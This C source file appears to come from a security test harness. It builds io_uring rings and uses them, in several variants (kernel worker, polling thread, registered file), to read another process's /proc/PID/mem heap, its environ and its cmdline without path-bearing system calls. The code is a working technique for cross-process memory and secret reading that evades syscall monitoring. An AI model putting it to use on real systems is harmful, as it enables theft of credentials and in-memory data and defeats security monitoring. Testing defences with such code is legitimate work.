/*
 * uring.c - the same files through io_uring, where no system call has a path or a descriptor among its arguments.
 */
#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "digest.h"

enum { ENTRIES = 4, AS_WORKER = 1, AS_POLLER = 2, OPENAT2 = 4, FIXED = 8, WAIT_MS = 2000, STEP_MS = 5 };

struct ring {
	int fd;
	char *at;
	struct io_uring_sqe *entries;
	struct io_uring_params params;
};

static int start_ring(struct ring *ring, unsigned flags)
{
	size_t size;

	*ring = (struct ring){ .params = { .flags = flags } };
	ring->fd = (int)syscall(SYS_io_uring_setup, ENTRIES, &ring->params);
	if (ring->fd < 0)
		return -errno;
	size = ring->params.sq_off.array + ENTRIES * sizeof(uint32_t);
	if (size < ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe))
		size = ring->params.cq_off.cqes + ring->params.cq_entries * sizeof(struct io_uring_cqe);
	ring->at = mmap(NULL, size, PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd, IORING_OFF_SQ_RING);
	ring->entries = mmap(NULL, ENTRIES * sizeof(struct io_uring_sqe), PROT_READ | PROT_WRITE, MAP_SHARED, ring->fd,
			     IORING_OFF_SQES);
	return ring->at == MAP_FAILED || ring->entries == MAP_FAILED ? -errno : 0;
}

static uint32_t *word_of(const struct ring *ring, uint32_t offset)
{
	return (uint32_t *)(void *)(ring->at + offset);
}

/* One operation, waited for. */
static int operate(struct ring *ring, const struct io_uring_sqe *operation)
{
	uint32_t *tail = word_of(ring, ring->params.sq_off.tail), *seen = word_of(ring, ring->params.cq_off.head);
	const uint32_t *done = word_of(ring, ring->params.cq_off.tail);
	const struct io_uring_cqe *results = (void *)(ring->at + ring->params.cq_off.cqes);
	uint32_t slot = *tail & (ring->params.sq_entries - 1);
	int result;

	ring->entries[slot] = *operation;
	word_of(ring, ring->params.sq_off.array)[slot] = slot;
	__atomic_store_n(tail, *tail + 1, __ATOMIC_RELEASE);
	if (syscall(SYS_io_uring_enter, ring->fd, 1, 1, IORING_ENTER_GETEVENTS | IORING_ENTER_SQ_WAKEUP, NULL, 0) < 0)
		return -errno;
	for (int waited = 0; __atomic_load_n(done, __ATOMIC_ACQUIRE) == *seen; waited += STEP_MS) {
		if (waited > WAIT_MS)
			return -ETIMEDOUT;
		moment(STEP_MS);
	}
	result = results[*seen & (ring->params.cq_entries - 1)].res;
	__atomic_store_n(seen, *seen + 1, __ATOMIC_RELEASE);
	return result;
}

static int open_with(struct ring *ring, const char *path, long how)
{
	static struct {
		uint64_t flags, mode, resolve;
	} plain = { O_RDONLY, 0, 0 };
	struct io_uring_sqe operation = { .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = (uintptr_t)path };

	if (how & OPENAT2) {
		operation.opcode = IORING_OP_OPENAT2;
		operation.off = (uintptr_t)&plain;
		operation.len = sizeof(plain);
	}
	if (how & AS_WORKER)
		operation.flags = IOSQE_ASYNC;
	if (how & FIXED)
		operation.file_index = 1;
	return operate(ring, &operation);
}

/* From an offset, or with none from the beginning. */
static int read_with(const struct attack *a, struct ring *ring, int fd, unsigned long long offset, long how)
{
	static unsigned char buffer[4096];
	struct io_uring_sqe operation = { .opcode = IORING_OP_READ, .fd = fd, .addr = (uintptr_t)buffer, .off = offset };
	int got;

	operation.len = (uint32_t)(offset != 0 ? a->target.length : sizeof(buffer));
	if (how & AS_WORKER)
		operation.flags = IOSQE_ASYNC;
	if (how & FIXED)
		operation.flags |= IOSQE_FIXED_FILE;
	got = operate(ring, &operation);
	if (got <= 0)
		return got < 0 ? got : -ENODATA;
	return saw(a, buffer, (size_t)got);
}

static int open_and_read(struct attack *a)
{
	int empty = -1, fd, is_memory = strcmp(a->row->text, "mem") == 0;
	struct ring ring;
	char path[64];

	(void)snprintf(path, sizeof(path), "/proc/%d/%s", (int)a->target.pid, a->row->text);
	fd = start_ring(&ring, a->row->number & AS_POLLER ? IORING_SETUP_SQPOLL : 0);
	if (fd < 0)
		return fd == -EPERM ? not_here(a, "io_uring is off") : fd;
	if (a->row->number & FIXED && syscall(SYS_io_uring_register, ring.fd, IORING_REGISTER_FILES, &empty, 1) < 0)
		return -errno;
	fd = open_with(&ring, path, a->row->number);
	if (fd < 0)
		return fd;
	return read_with(a, &ring, fd, is_memory ? a->target.heap : 0, a->row->number);
}

static int hold_memory(struct attack *a)
{
	struct ring *ring = mmap(NULL, sizeof(*ring), PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	int failed = ring == MAP_FAILED ? -errno : start_ring(ring, 0);

	a->at = ring;
	if (failed == 0)
		a->fd = open_of(a->target.pid, "mem", O_RDONLY);
	if (failed < 0 || a->fd < 0)
		return failed < 0 ? failed : a->fd;
	if (!(a->row->number & FIXED))
		return 0;
	if (syscall(SYS_io_uring_register, ring->fd, IORING_REGISTER_FILES, &a->fd, 1) < 0)
		return -errno;
	(void)close(a->fd);
	a->fd = 0; /* its index */
	return 0;
}

static int read_held(struct attack *a)
{
	return read_with(a, a->at, a->fd, a->target.heap, a->row->number);
}

const struct row uring_rows[] = {
	{ .name = "uring_mem", .vector = "io_uring", .what = "OPENAT and READ of /proc/PID/mem", .run = open_and_read,
	  .text = "mem" },
	{ .name = "uring_mem_openat2", .vector = "io_uring", .what = "OPENAT2", .run = open_and_read, .text = "mem",
	  .number = OPENAT2 },
	{ .name = "uring_mem_worker", .vector = "io_uring", .what = "done by a kernel worker", .run = open_and_read,
	  .text = "mem", .number = AS_WORKER },
	{ .name = "uring_mem_poller", .vector = "io_uring", .what = "done by the submission thread: no system call at all",
	  .run = open_and_read, .text = "mem", .number = AS_POLLER },
	{ .name = "uring_mem_fixed", .vector = "io_uring", .what = "without any descriptor", .run = open_and_read,
	  .text = "mem", .number = FIXED },
	{ .name = "uring_environ", .vector = "io_uring", .what = "OPENAT and READ of environ", .run = open_and_read,
	  .text = "environ" },
	{ .name = "uring_cmdline", .vector = "io_uring", .what = "OPENAT and READ of cmdline", .run = open_and_read,
	  .text = "cmdline" },
	{ .name = "earlier_uring", .vector = "proc_open_earlier", .what = "READ of a descriptor of mem opened before",
	  .run = read_held, .hold = hold_memory },
	{ .name = "earlier_uring_worker", .vector = "proc_open_earlier", .what = "the same, by a kernel worker",
	  .run = read_held, .hold = hold_memory, .number = AS_WORKER },
	{ .name = "earlier_uring_fixed", .vector = "proc_open_earlier", .what = "READ of a file registered before",
	  .run = read_held, .hold = hold_memory, .number = FIXED },
	{ 0 },
};
